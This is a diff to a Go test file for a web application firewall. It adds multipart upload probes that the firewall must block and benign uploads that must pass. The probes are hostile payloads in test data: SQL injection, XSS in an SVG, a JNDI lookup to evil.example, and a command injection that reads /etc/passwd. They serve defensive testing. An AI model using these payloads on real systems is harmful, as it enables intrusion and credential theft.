@@ -1,14 +1,17 @@
 package waf
 
 import (
+	"bytes"
 	"context"
 	"encoding/base64"
 	"fmt"
 	"io"
 	"maps"
 	"math/rand/v2"
+	"mime/multipart"
 	"net/http"
 	"net/http/httptest"
+	"net/textproto"
 	"net/url"
 	"regexp"
 	"strings"
@@ -25,12 +28,32 @@ func basic(user, pass string) http.Header {
 	return http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass))}}
 }
 
+// multipartFile is a multipart/form-data body of one file part with the
+// given Content-Disposition parameters after the field's name, and
+// contents.
+func multipartFile(field, disposition, contentType, contents string) (string, string) {
+	var b bytes.Buffer
+	mw := multipart.NewWriter(&b)
+	h := textproto.MIMEHeader{}
+	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q; %s`, field, disposition))
+	h.Set("Content-Type", contentType)
+	pw, _ := mw.CreatePart(h)
+	_, _ = pw.Write([]byte(contents))
+	_ = mw.WriteField("title", "my upload")
+	_ = mw.Close()
+	return b.String(), mw.FormDataContentType()
+}
+
 // placesAttackTable is what the WAF must refuse in the places the CRS at
 // paranoia 1 does not read (docs/waf.md, "Places the CRS does not
 // read"): crsCatches are refused by the CRS alone too (kept to show which
 // places it does read), crsMisses pass it and are the additions' work.
 func placesAttackTable() (crsCatches, crsMisses []probe) {
 	sqli := "1' UNION SELECT username, password FROM users --"
+	csv, csvType := multipartFile("report", `filename="report.csv"`, "text/csv", "id,name\n1,x' UNION SELECT username, password FROM users --\n")
+	svg, svgType := multipartFile("avatar", `filename="me.svg"`, "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`)
+	star, starType := multipartFile("doc", `filename*=UTF-8''notes%20%C3%A9t%C3%A9.txt`, "text/plain", "see ${jndi:ldap://evil.example/a} and 1' OR '1'='1' --")
+	octet, octetType := multipartFile("data", `filename="data.bin"`, "application/octet-stream", "127.0.0.1; cat /etc/passwd")
 	crsCatches = []probe{
 		{name: "XSS in X-Forwarded-Host", method: "GET", path: "/", header: http.Header{"X-Forwarded-Host": {`"><script>alert(document.domain)</script>`}}},
 		{name: "XSS in a custom header", method: "GET", path: "/", header: http.Header{"X-Display-Name": {`"><img src=x onerror=alert(document.domain)>`}}},
@@ -52,12 +75,21 @@ func placesAttackTable() (crsCatches, crsMisses []probe) {
 		{name: "SQLi in a path ;parameter", method: "GET", path: "/api/users;id=1%27%20OR%20%271%27=%271/profile"},
 		{name: "SQLi in a path segment with encoded slashes", method: "GET", path: "/api/users/1%27%2F**%2FUNION%2F**%2FSELECT%2F**%2Fpassword%2F**%2FFROM%2F**%2Fusers--"},
 		{name: "RCE in a path segment", method: "GET", path: "/api/ping/127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
+		{name: "SQLi in a text file part (CSV)", method: "POST", path: "/upload", contentType: csvType, body: csv},
+		{name: "XSS in an SVG file part", method: "POST", path: "/upload", contentType: svgType, body: svg},
+		{name: "attacks in a part named with filename*= only", method: "POST", path: "/upload", contentType: starType, body: star},
+		{name: "RCE in a text file part declared octet-stream", method: "POST", path: "/upload", contentType: octetType, body: octet},
 	}
 	return crsCatches, crsMisses
 }
 
 // placesBenignTable is ordinary traffic in those places that must pass.
 func placesBenignTable() []probe {
+	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\xdac\xfc\xff\x9f\xa1\x1e\x00\x07\x82\x02\x7f=\xc8H\xef\x00\x00\x00\x00IEND\xaeB`\x82' OR 1=1 --"
+	pngBody, pngType := multipartFile("avatar", `filename="me.png"`, "image/png", png)
+	txt, txtType := multipartFile("notes", `filename="notes.txt"`, "text/plain", "Meeting notes: O'Brien and McDonald's (Zürich office), 50% done.\nNext: review the \"Q3\" plan; budget $5,000.\n")
+	csv, csvType := multipartFile("contacts", `filename="contacts.csv"`, "text/csv", "name,email,city\n\"O'Neil, Jane\",jane@example.com,Köln\nBob,bob@example.com,\"St. Mary's\"\n")
+	jsonFile, jsonType := multipartFile("config", `filename*=UTF-8''r%C3%A9glages.json`, "application/json", `{"theme": "dark", "langs": ["de", "fr"], "note": "it's fine"}`)
 	h := func(kv ...string) http.Header {
 		hh := http.Header{}
 		for i := 0; i+1 < len(kv); i += 2 {
@@ -104,6 +136,10 @@ func placesBenignTable() []probe {
 		{name: "slugs percent-encoded (non-ASCII, an apostrophe, spaces)", method: "GET", path: "/wiki/Z%C3%BCrich/l%27%C3%A9tranger/rock%20%27n%27%20roll"},
 		{name: "a ;jsessionid path parameter and an email in the path", method: "GET", path: "/shop;jsessionid=1A530637289A03B07199A44E8D531427/users/jane.doe+x@example.com/orders"},
 		{name: "a path with parentheses, a colon and a comma", method: "GET", path: "/wiki/Mercury_(planet)/v1/projects/p1/locations/eu:batchGet,all"},
+		{name: "a text file upload (notes with quotes, apostrophes, non-ASCII)", method: "POST", path: "/upload", contentType: txtType, body: txt},
+		{name: "a CSV upload", method: "POST", path: "/upload", contentType: csvType, body: csv},
+		{name: "a JSON file named with filename*=", method: "POST", path: "/upload", contentType: jsonType, body: jsonFile},
+		{name: "a PNG upload (binary; an attack's text after its end is not read)", method: "POST", path: "/upload", contentType: pngType, body: pngBody},
 	}
 	for _, p := range passwords {
 		out = append(out, probe{name: "Basic with a strong password " + p, method: "GET", path: "/account", header: basic("jane.o'neil@example.com", p)})
@@ -437,6 +473,23 @@ func FuzzPlaceValues(f *testing.F) {
 		}
 		if total > len(path)+2*len(value)+len(cred) {
 			t.Fatalf("%d bytes of values from %q %q %q", total, path, value, cred)
+		}
+	})
+}
+
+// FuzzFileArguments: any multipart body gives file contents no longer
+// than the body, and no panic.
+func FuzzFileArguments(f *testing.F) {
+	body, ct := multipartFile("f", `filename*=UTF-8''a%20b.txt`, "text/plain", "1' OR 1=1 --")
+	f.Add(ct, body)
+	f.Add("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=a; filename=b\r\n\r\nc\r\n--x--")
+	f.Fuzz(func(t *testing.T, ct, body string) {
+		total := 0
+		for _, a := range fileArguments(ct, []byte(body)) {
+			total += len(a.value)
+		}
+		if total > len(body) {
+			t.Fatalf("%d bytes of file contents from a %d-byte body", total, len(body))
 		}
 	})
 }
